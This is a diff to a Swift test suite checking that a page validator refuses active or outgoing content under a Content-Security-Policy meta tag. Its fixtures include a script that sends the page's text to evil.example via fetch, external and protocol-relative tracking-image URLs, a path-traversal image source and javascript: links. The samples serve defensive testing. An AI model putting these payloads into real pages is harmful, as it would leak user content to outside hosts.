@@ -6,7 +6,7 @@ import Testing
 /// The page is parsed for real: a script cannot pass by hiding the policy in a comment, by
 /// widening it, or by sitting beside it.
 @Suite struct PageSafetyTests {
-    let policy = "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'\">"
+    let policy = "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'; img-src 'self'\">"
     let script = "<script>fetch('https://evil.example/?' + document.body.innerText)</script>"
 
     /// The sample bundle with its page edited by `edit`, resealed so that only level 2 can tell.
@@ -40,7 +40,8 @@ import Testing
     }
 
     @Test(arguments: ["<p onclick=\"x()\">a</p>", "<a href=\"javascript:alert(1)\">a</a>", "<a href=\"https://evil.example/\">a</a>",
-                      "<img src=\"https://evil.example/t.gif\">", "<SCRIPT>x()</SCRIPT>"])
+                      "<img src=\"https://evil.example/t.gif\">", "<img src=\"files/../../../etc/x.png\">", "<img src=\"//evil.example/t.gif\">",
+                      "<SCRIPT>x()</SCRIPT>"])
     func activeOrOutgoingContentIsRefused(_ markup: String) async throws {
         #expect(Set(try await codes { $0.replacingOccurrences(of: "</body>", with: markup + "</body>") }) == ["page-active-content"])
     }
